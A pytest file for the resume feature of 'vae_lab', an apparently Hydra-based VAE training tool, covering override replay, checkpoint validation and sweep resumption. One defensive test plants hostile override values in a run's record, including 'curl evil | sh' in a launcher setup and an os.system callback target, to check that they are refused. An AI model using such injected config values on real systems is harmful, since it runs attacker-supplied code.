"""resume=true: a run (or a sweep) continues in its own folder, from its own record, where it stands."""
import io
import json
import shutil

import pytest
import torch
import yaml

from conftest import compose_config, read_metrics
from test_cli import run_cli
from vae_lab.checkpoint import load_checkpoint
from vae_lab.cli import resumed_arguments, run_task
from vae_lab.errors import CheckpointError, ConfigError

RUN = ["device=cpu", "threads=1", "figures=false", "data=mnist_5k", "data.limit=128", "train.batch_size=64",
       "evaluate.sample_metrics=false", "evaluate.iw_samples=2", "model.latent_dim=4", "evaluate.embedding_points=64",
       "evaluate.samplers=[prior]"]


def record(folder, task, hydra=("hydra.run.dir=x",), name=".hydra/hydra.yaml"):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump({"hydra": {"overrides": {"task": list(task), "hydra": list(hydra)}}}))
    return folder


def test_the_recorded_command_line_comes_first_and_this_one_wins(tmp_path):
    run = record(tmp_path / "run", ["model.latent_dim=4", "train.epochs=2"], ["hydra.run.dir=old", "hydra/launcher=basic"])
    assert resumed_arguments([f"hydra.run.dir={run}", "resume=true", "train.epochs=6"]) == [
        f"hydra.run.dir={run}", "resume=true", "train.epochs=6", "hydra/launcher=basic", "model.latent_dim=4"]
    assert resumed_arguments(["train.epochs=6"]) == ["train.epochs=6"]  # no resume=true: untouched


def test_a_resumed_sweep_reads_its_overrides_and_refuses_other_values(tmp_path):
    sweep = record(tmp_path / "sweep", ["model.latent_dim=2,4"], ["hydra.sweep.dir=old", "hydra.mode=MULTIRUN"], "multirun.yaml")
    arguments = ["-m", f"hydra.sweep.dir={sweep}", "resume=true"]
    assert resumed_arguments(arguments) == [*arguments, "model.latent_dim=2,4"]
    assert resumed_arguments([*arguments, "model.latent_dim=2,4"]) == [*arguments, "model.latent_dim=2,4"]
    with pytest.raises(ConfigError, match="model.latent_dim=2,8 disagrees with its model.latent_dim=2,4"):
        resumed_arguments([*arguments, "model.latent_dim=2,8"])


@pytest.mark.parametrize("recorded", ["trusted_modules=[evil]", "model._target_=evil.Model", "+hydra.callbacks.x._target_=os.system",
                                      "hydra.job_logging.handlers.file.class=evil.Handler", "hydra/job_logging=evil",
                                      "hydra.launcher.setup=[curl evil | sh]", "hydra.launcher.python=/tmp/evil"])
def test_a_record_never_grants_trust_to_a_resumed_command(tmp_path, recorded):
    hydra = [recorded] if recorded.lstrip("+").startswith("hydra") else []
    run = record(tmp_path / "run", ["model.latent_dim=4", *([] if hydra else [recorded])], ["hydra.run.dir=x", *hydra])
    with pytest.raises(ConfigError, match="decides what code runs; vae_lab takes that only from the command line"):
        resumed_arguments([f"hydra.run.dir={run}", "resume=true"])
    key = recorded.lstrip("+").split("=", 1)[0]
    assert "model.latent_dim=4" in resumed_arguments([f"hydra.run.dir={run}", "resume=true", f"{key}=mine"])


@pytest.mark.parametrize("arguments, message", [
    (["resume=true"], "name its folder with hydra.run.dir="),
    (["-m", "resume=true"], "name its folder with hydra.sweep.dir="),
    (["hydra.run.dir={empty}", "resume=true"], "holds no vae_lab run"),
    (["-m", "hydra.sweep.dir={empty}", "resume=true"], "holds no vae_lab sweep"),
    (["hydra.run.dir={garbled}", "resume=true"], "cannot be read as Hydra's record"),
])
def test_resume_without_a_folder_that_holds_a_run_says_what_to_do(tmp_path, arguments, message):
    (tmp_path / "empty").mkdir()
    (tmp_path / "garbled" / ".hydra").mkdir(parents=True)
    (tmp_path / "garbled" / ".hydra" / "hydra.yaml").write_text("hydra: [unclosed")
    with pytest.raises(ConfigError, match=message):
        resumed_arguments([a.format(empty=tmp_path / "empty", garbled=tmp_path / "garbled") for a in arguments])


def test_train_continues_in_place_bit_exactly_and_keeps_the_earlier_results(tmp_path):
    straight, run = tmp_path / "straight", tmp_path / "run"
    run_task(compose_config(*RUN, "train.epochs=3"), straight)
    run_task(compose_config(*RUN, "train.epochs=1", "train.evaluate_at_end=true"), run)
    run_task(compose_config(*RUN, "train.epochs=3", "train.evaluate_at_end=true", "resume=true"), run)
    expected, resumed = (load_checkpoint(folder / "checkpoints" / "last.pt") for folder in (straight, run))
    assert resumed["epoch"] == 3 and all(torch.equal(t, resumed["model"][k]) for k, t in expected["model"].items())
    assert [row["epoch"] for row in read_metrics(run)] == ["1", "2", "3"]  # no epoch missing or twice
    assert json.loads((run / "results_epoch1" / "metrics.json").read_text())["epoch"] == 1  # moved aside, not over
    assert json.loads((run / "results" / "metrics.json").read_text())["epoch"] == 3


def test_resume_refuses_a_checkpoint_of_another_config_and_names_the_last_good_one(tmp_path):
    run = tmp_path / "run"
    run_task(compose_config(*RUN, "train.epochs=2", "train.checkpoint_every=1"), run)
    with pytest.raises(ConfigError, match="resume=true: .*last.pt was trained with other settings of model"):
        run_task(compose_config(*RUN, "model.latent_dim=8", "train.epochs=3", "resume=true"), run)
    last = run / "checkpoints" / "last.pt"
    last.write_bytes(last.read_bytes()[:1000])  # a torn file
    with pytest.raises(CheckpointError, match=r"The newest good checkpoint is model_2.pt: .*train.resume=.*model_2.pt"):
        run_task(compose_config(*RUN, "train.epochs=3", "resume=true"), run)
    with pytest.raises(ConfigError, match="resume=true and train.resume=.* Choose one"):
        run_task(compose_config(*RUN, "resume=true", f"train.resume={last}"), run)
    with pytest.raises(ConfigError, match="resume=true continues a training run; task=evaluate"):
        run_task(compose_config(*RUN, "resume=true", "task=evaluate", f"evaluate.checkpoint={run}"), tmp_path / "e")


@pytest.mark.slow
def test_the_command_line_continues_a_run_from_its_record_and_a_refusal_leaves_the_record(tmp_path):
    run = tmp_path / "run"
    assert run_cli(*RUN, "train.epochs=1", "train.evaluate_at_end=false", f"hydra.run.dir={run}").returncode == 0
    before = (run / ".hydra" / "overrides.yaml").read_bytes()
    refused = run_cli(f"hydra.run.dir={run}", "resume=true", "model.latent_dim=8", "train.epochs=3")
    assert refused.returncode == 2 and "other settings of model" in refused.stdout + refused.stderr
    assert (run / ".hydra" / "overrides.yaml").read_bytes() == before  # the next command composes from the run's own
    assert run_cli(f"hydra.run.dir={run}", "resume=true", "train.epochs=2").returncode == 0
    assert [row["epoch"] for row in read_metrics(run)] == ["1", "2"]
    assert "data.limit=128" in (run / ".hydra" / "overrides.yaml").read_text()  # the record says what ran
    no_checkpoint = tmp_path / "refused-start"
    shutil.copytree(run / ".hydra", no_checkpoint / ".hydra")
    result = run_cli(f"hydra.run.dir={no_checkpoint}", "resume=true")
    assert result.returncode == 2 and "holds no checkpoints/last.pt" in result.stdout + result.stderr


@pytest.mark.slow
def test_a_sweep_resumes_keeping_completed_jobs_continuing_unfinished_ones_and_not_rerunning_failed_ones(tmp_path):
    sweep = tmp_path / "sweep"
    args = [*RUN, "train.evaluate_at_end=false", "train.epochs=2", f"hydra.sweep.dir={sweep}"]
    assert run_cli("-m", *args, "model.latent_dim=2,3,4").returncode == 0
    finished = (sweep / "1" / "checkpoints" / "last.pt").read_bytes()
    # Job 1 as a preempted job leaves it: last.pt of epoch 1, its metrics row, no job.json.
    first_epoch = tmp_path / "one"
    assert run_cli(*RUN, "train.evaluate_at_end=false", "train.epochs=1", "model.latent_dim=3",
                   f"hydra.run.dir={first_epoch}").returncode == 0
    shutil.copy(first_epoch / "checkpoints" / "last.pt", sweep / "1" / "checkpoints" / "last.pt")
    (sweep / "1" / "metrics.csv").write_text("".join((sweep / "1" / "metrics.csv").read_text().splitlines(True)[:2]))
    (sweep / "1" / "job.json").unlink()
    (sweep / "2" / "job.json").write_text(json.dumps({"status": "failed", "error": "an earlier failure", "seconds": 1}))
    # Completed: untouched, but for the lock (this process's pid) and run.log (one line saying the job was kept);
    # Hydra rewrites .hydra/ at every launch, adding resume=true.
    kept = {path: path.stat().st_mtime_ns for path in (sweep / "0").rglob("*")
            if ".hydra" not in path.parts and path.name not in (".vae_lab.lock", "run.log")}

    result = run_cli("-m", f"hydra.sweep.dir={sweep}", "resume=true")
    assert result.returncode == 1, result.stderr  # job 2 stays failed: the sweep says so
    assert {path: path.stat().st_mtime_ns for path in kept} == kept
    assert "job 0 completed before; kept as it is" in (sweep / "0" / "run.log").read_text()
    resumed = load_checkpoint(sweep / "1" / "checkpoints" / "last.pt")  # continued from epoch 1 to the same weights
    original = torch.load(io.BytesIO(finished), weights_only=True)
    assert resumed["epoch"] == 2 and all(torch.equal(t, resumed["model"][k]) for k, t in original["model"].items())
    assert json.loads((sweep / "1" / "job.json").read_text())["status"] == "completed"
    assert json.loads((sweep / "2" / "job.json").read_text())["error"] == "an earlier failure"
    summary = (sweep / "summary.md").read_text()
    assert summary.count("| completed |") == 2 and "an earlier failure" in summary
    assert run_cli("-m", f"hydra.sweep.dir={sweep}", "resume=true", "resume_failed=true").returncode == 0
